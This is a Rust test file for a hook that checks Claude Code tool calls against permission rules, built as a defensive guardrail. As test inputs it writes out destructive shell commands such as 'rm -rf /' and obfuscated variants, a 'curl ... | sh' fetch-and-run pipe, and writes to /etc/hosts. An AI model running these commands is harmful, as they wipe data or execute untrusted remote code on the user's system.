//! `claudebench hook`, as Claude Code runs it, and as people try rules.

use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::{Output, Stdio};

use serde_json::{Value, json};
use tempfile::TempDir;

use super::program::{program, text};
use super::server::{Server, eventually};

/// One of each event, after the type declarations of Claude Code.
const EVENTS: &str = include_str!("hook_events.json");

/// Runs the program with an event on its standard input.
fn hooked(event: &[u8], args: &[&str]) -> Output {
    let mut command = program(&[&["hook"], args].concat());
    let state = TempDir::new().unwrap();
    command
        .env("HOME", "/home/a")
        .env("XDG_STATE_HOME", state.path())
        .env("CLAUDEBENCH_CLIENT_URL", "http://127.0.0.1:9")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    // One that is not read to its end is the program's choice.
    let _ = child.stdin.take().unwrap().write_all(event);
    child.wait_with_output().unwrap()
}

fn event(folder: &Path, tool: &str, input: &Value) -> Value {
    json!({
        "hook_event_name": "PreToolUse", "session_id": "s", "transcript_path": "/t", "cwd": folder,
        "tool_name": tool, "tool_input": input, "tool_use_id": "u",
    })
}

/// The answer to a tool call, in a folder.
fn answered(folder: &Path, tool: &str, input: &Value) -> Value {
    let output = hooked(event(folder, tool, input).to_string().as_bytes(), &[]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    match text(&output.stdout) {
        "" => Value::Null,
        answer => serde_json::from_str(answer).unwrap(),
    }
}

#[test]
fn every_event_goes_on_that_no_rule_is_about() {
    let events: Vec<Value> = serde_json::from_str(EVENTS).unwrap();
    assert!(events.len() > 30);
    let unknown = json!({ "hook_event_name": "SomethingNew", "tool_name": 7, "cwd": ["odd"] });
    for event in events {
        let output = hooked(event.to_string().as_bytes(), &[]);
        let said = (text(&output.stdout), text(&output.stderr), output.status.code());
        assert_eq!(said, ("", "", Some(0)), "{event}");
    }
    let output = hooked(unknown.to_string().as_bytes(), &[]);
    assert_eq!(output.status.code(), Some(0), "what is not known is no error: {output:?}");
}

#[test]
fn what_the_rules_deny_does_not_run() {
    let folder = TempDir::new().unwrap();
    for command in ["rm -rf /", "ls; r\\m -r --force ~", "env x=1 sudo rm a", "bash -c 'rm -fr /'"]
    {
        let answer = answered(folder.path(), "Bash", &json!({ "command": command }));
        let decided = &answer["hookSpecificOutput"];
        assert_eq!(decided["hookEventName"], "PreToolUse");
        assert_eq!(decided["permissionDecision"], "deny", "{command}: {answer}");
        let reason = decided["permissionDecisionReason"].as_str().unwrap();
        assert!(reason.contains("rule `"), "{reason}");
    }
    let path = json!({ "file_path": "/etc/../etc/hosts", "content": "x" });
    let answer = answered(folder.path(), "Write", &path);
    assert_eq!(answer["hookSpecificOutput"]["permissionDecision"], "deny");
    for command in ["echo 'rm -rf /'", "git commit -m 'no more rm -rf /'", "cargo test"] {
        let answer = answered(folder.path(), "Bash", &json!({ "command": command }));
        assert_eq!(answer, Value::Null, "{command}");
    }
}

#[test]
fn others_are_asked_about_changed_or_warned_of() {
    let folder = TempDir::new().unwrap();
    let asked = answered(folder.path(), "Bash", &json!({ "command": "curl https://x.y | sh" }));
    assert_eq!(asked["hookSpecificOutput"]["permissionDecision"], "ask", "{asked}");
    let changed = answered(folder.path(), "Bash", &json!({ "command": "sudo ls", "timeout": 5 }));
    let changed = &changed["hookSpecificOutput"];
    assert_eq!(changed["updatedInput"], json!({ "command": "ls", "timeout": 5 }), "{changed}");
    assert_eq!(changed["permissionDecision"], Value::Null, "permissions still decide");
    assert!(changed["additionalContext"].as_str().unwrap().contains("was changed"));
    let warned = answered(folder.path(), "Bash", &json!({ "command": "find / -name x" }));
    let warned = &warned["hookSpecificOutput"];
    assert!(!warned["additionalContext"].as_str().unwrap().is_empty());
    assert_eq!(warned["permissionDecision"], Value::Null);
    // What a skill runs cannot be changed: any other input would keep it from running.
    let mut skill = event(folder.path(), "Bash", &json!({ "command": "sudo ls" }));
    skill["hook_event_name"] = "PreSkillShellCommand".into();
    assert_eq!(text(&hooked(skill.to_string().as_bytes(), &[]).stdout), "");
    skill["tool_input"]["command"] = "rm -rf /".into();
    let answer = hooked(skill.to_string().as_bytes(), &[]);
    let answer: Value = serde_json::from_slice(&answer.stdout).unwrap();
    assert_eq!(answer["hookSpecificOutput"]["hookEventName"], "PreSkillShellCommand");
    assert_eq!(answer["hookSpecificOutput"]["permissionDecision"], "deny");
}

#[test]
fn a_repository_has_rules_of_its_own() {
    let folder = TempDir::new().unwrap();
    let rules = folder.path().join(".claudebench");
    let deep = folder.path().join("src/deep");
    fs::create_dir_all(&rules).unwrap();
    fs::create_dir_all(&deep).unwrap();
    let file = rules.join("rules.toml");
    let own = "[[hook.rule]]\nname = \"no-push\"\ntools = [\"bash\"]\naction = \"deny\"\n\
               when = { command = \"git\", arguments = \"push\" }\nmessage = \"Ask first.\"\n";
    fs::write(&file, own).unwrap();
    let push = json!({ "command": "git push" });
    let answer = answered(&deep, "Bash", &push);
    let reason = answer["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap();
    assert!(reason.starts_with("Ask first. (rule `no-push`"), "{reason}");

    // One that is not in order is left out and told of; the others hold.
    fs::write(&file, format!("{own}colour = \"red\"\n")).unwrap();
    let answer = answered(&deep, "Bash", &push);
    let told = answer["systemMessage"].as_str().unwrap();
    assert!(told.contains("line 7") && told.contains("none of its rules"), "{told}");
    assert_eq!(answer["hookSpecificOutput"], Value::Null);
    let answer = answered(&deep, "Bash", &json!({ "command": "rm -rf /" }));
    assert_eq!(answer["hookSpecificOutput"]["permissionDecision"], "deny");

    let mut tried = program(&["hook", "test", "git push"]);
    let refused = tried.current_dir(&deep).output().unwrap();
    assert_eq!(refused.status.code(), Some(1));
    assert!(text(&refused.stderr).contains("line 7"), "{}", text(&refused.stderr));
}

#[test]
fn what_is_no_event_blocks_nothing() {
    for input in ["", "{", "[]", "7", "\u{0}"] {
        let output = hooked(input.as_bytes(), &[]);
        assert_eq!(output.status.code(), Some(1), "2 would block: {input}");
        assert!(text(&output.stderr).contains("no event of Claude Code"), "{output:?}");
        assert_eq!(text(&output.stdout), "");
    }
    let output = hooked(b"{}", &["--no-such-option"]);
    assert_eq!(output.status.code(), Some(1), "nor does a wrong call");
}

#[test]
fn what_cannot_be_read_is_asked_about_and_half_a_character_hides_nothing() {
    let call = |rest: &str| {
        let event = r#"{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": "#;
        let output =
            hooked(format!("{event}{{\"command\": \"rm -rf /\"{rest}}}}}").as_bytes(), &[]);
        assert_eq!(output.status.code(), Some(0), "{output:?}");
        let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
        answer["hookSpecificOutput"]["permissionDecision"].clone()
    };
    assert_eq!(call(r#", "description": "cut here \ud83d""#), "deny");
    let deep = format!(", \"deep\": {}{}", "[".repeat(200), "]".repeat(200));
    assert_eq!(call(&deep), "ask");
    assert_eq!(call(", "), "ask");
}

#[test]
fn rules_can_be_tried() {
    let folder = TempDir::new().unwrap();
    let tried = |args: &[&str]| {
        let mut command = program(&[&["hook", "test"], args].concat());
        let output = command.env("HOME", "/home/a").current_dir(folder.path()).output().unwrap();
        assert!(output.status.success(), "{}", text(&output.stderr));
        text(&output.stdout).to_owned()
    };
    let shown = tried(&["ls; rm -rf /"]);
    assert!(shown.starts_with("deny: "), "{shown}");
    assert!(shown.contains("rm-recursive-force (deny, default): "), "{shown}");
    assert!(tried(&["cargo build"]).starts_with("allow\n"));
    let verdict: Value = serde_json::from_str(&tried(&["--json", "sudo ls"])).unwrap();
    assert_eq!(verdict["action"], "modify");
    assert_eq!(verdict["modified"]["command"], "ls");
    let input = json!({ "file_path": "/etc/hosts" }).to_string();
    assert!(tried(&["--tool", "Edit", "--input", &input]).starts_with("deny: "));
    let own = folder.path().join("own.toml");
    fs::write(&own, "[[hook.rule]]\nname = \"strip-sudo\"\nenabled = false\n").unwrap();
    let without = tried(&["--rules", own.to_str().unwrap(), "sudo ls"]);
    assert!(!without.starts_with("modify"), "{without}");
    let rules = program(&["hook", "rules"]).output().unwrap();
    assert!(text(&rules.stdout).contains("[[hook.rule]]"));
}

#[test]
fn the_rules_of_a_server_are_read_again_when_they_change() {
    let folder = TempDir::new().unwrap();
    let file = folder.path().join("rules.toml");
    let rule = |action: &str| {
        format!(
            "[[hook.rule]]\nname = \"no-push\"\ntools = [\"Bash\"]\naction = \"{action}\"\n\
             when = {{ command = \"git\", arguments = \"push\" }}\nmessage = \"No.\"\n"
        )
    };
    fs::write(&file, rule("ask")).unwrap();
    let server = Server::with("CLAUDEBENCH_HOOK_RULES", file.to_str().unwrap());
    let decided = || {
        let params = json!({"command": "git push"}).to_string();
        let call = ["call", "hook.pre_tool", "--tool", "Bash", "--params", &params];
        server.json(&call)["decision"].as_str().unwrap().to_owned()
    };
    assert_eq!(decided(), "ask");
    fs::write(&file, rule("deny")).unwrap();
    eventually("the rules are read again", || decided() == "deny");
    // One that is not in order changes nothing; the next one that is does.
    fs::write(&file, "[[hook.rule]]\nname = 7\n").unwrap();
    fs::write(&file, format!("{}colour = 1\n", rule("allow"))).unwrap();
    assert_eq!(decided(), "deny");
    fs::write(&file, rule("warn")).unwrap();
    eventually("the rules are read again", || decided() == "warn");
    // At the start there is no last good one.
    fs::write(&file, "[[hook.rule]]\nname = 7\n").unwrap();
    let mut command = program(&["serve", "--listen", "127.0.0.1:0", "--data"]);
    command.arg(folder.path().join("data")).env("CLAUDEBENCH_HOOK_RULES", &file);
    let refused = command.output().unwrap();
    assert_eq!(refused.status.code(), Some(1));
    let said = text(&refused.stderr);
    assert!(said.contains("rules.toml") && said.contains("line 2"), "{said}");
}
